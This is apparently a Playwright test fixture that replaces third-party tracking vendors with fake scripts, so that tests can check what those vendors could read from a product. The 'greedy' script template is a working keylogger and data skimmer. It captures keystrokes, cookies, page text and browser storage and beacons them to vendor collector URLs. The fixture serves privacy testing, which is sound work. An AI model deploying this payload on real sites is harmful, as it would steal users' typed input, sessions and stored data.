import type { BrowserContext, Request } from 'playwright-core'

/** A vendor's report: the event in its own words, and everything else that its script could read. */
export type Report = { vendor: string; said: unknown[]; found: Record<string, unknown> }

export type FakeVendors = {
  /** Every complete request to a third-party host. */
  requests: Request[]
  reports: () => Report[]
}

const ourHosts = /^(127\.0\.0\.1|(cards|pixels)\.localhost)$/

/**
 * Forwards every call to the vendor's object, before the script loaded and after, with everything visible in
 * its frame.
 */
const greedy = (collector: string, listen: string) => `{
  const send = (said) => {
    const found = { address: location.href, referrer: document.referrer, cookie: document.cookie, title: document.title,
                    text: document.body.innerText }
    // Browsers that block storage for third parties throw here.
    try { found.stored = JSON.stringify({ ...localStorage, ...sessionStorage }) } catch {}
    new Image().src = '${collector}?report=' + encodeURIComponent(JSON.stringify({ said: [...said], found }))
  }
  addEventListener('keydown', ({ key }) => send(['keydown', key]), true)
  ${listen}
}`

const listenToArray = (name: string) =>
  `for (const said of ${name}.splice(0)) send(said); ${name}.push = send`

export const vendorScripts: Record<string, { vendor: string; source: string }> = {
  'connect.facebook.net': {
    vendor: 'facebook',
    source: greedy(
      'https://www.facebook.com/tr',
      'fbq.callMethod = (...said) => send(said); fbq.queue.splice(0).forEach(send)',
    ),
  },
  'analytics.tiktok.com': {
    vendor: 'tiktok',
    source: greedy('https://analytics.tiktok.com/api/v2/pixel', listenToArray('ttq')),
  },
  's21-def.ap4r.com': {
    vendor: 'kwai',
    source: greedy('https://s21-def.ap4r.com/collect', listenToArray('kwaiq')),
  },
  'www.googletagmanager.com': {
    vendor: 'google',
    source: greedy('https://www.google-analytics.com/g/collect', listenToArray('dataLayer')),
  },
}

const collectors: Record<string, string> = {
  'www.facebook.com': 'facebook',
  'analytics.tiktok.com': 'tiktok',
  's21-def.ap4r.com': 'kwai',
  'www.google-analytics.com': 'google',
}

/**
 * Replaces the whole internet outside the product. `scriptOf` gives the script of a vendor, or null for one
 * that never answers.
 */
export async function fakeVendors(
  context: BrowserContext,
  scriptOf: (host: string) => string | null = (host) => vendorScripts[host]?.source ?? '',
): Promise<FakeVendors> {
  const requests: Request[] = []
  await context.route(
    (url) => !ourHosts.test(url.hostname),
    async (route) => {
      const request = route.request()
      requests.push(request)
      if (request.resourceType() !== 'script') return route.fulfill({ status: 204 })
      const body = scriptOf(new URL(request.url()).hostname)
      if (body !== null) await route.fulfill({ contentType: 'text/javascript', body })
    },
  )
  return {
    requests,
    reports: () =>
      requests.flatMap((request) => {
        const { hostname, searchParams } = new URL(request.url())
        const report = searchParams.get('report')
        return report === null ? [] : [{ vendor: collectors[hostname] ?? hostname, ...JSON.parse(report) }]
      }),
  }
}
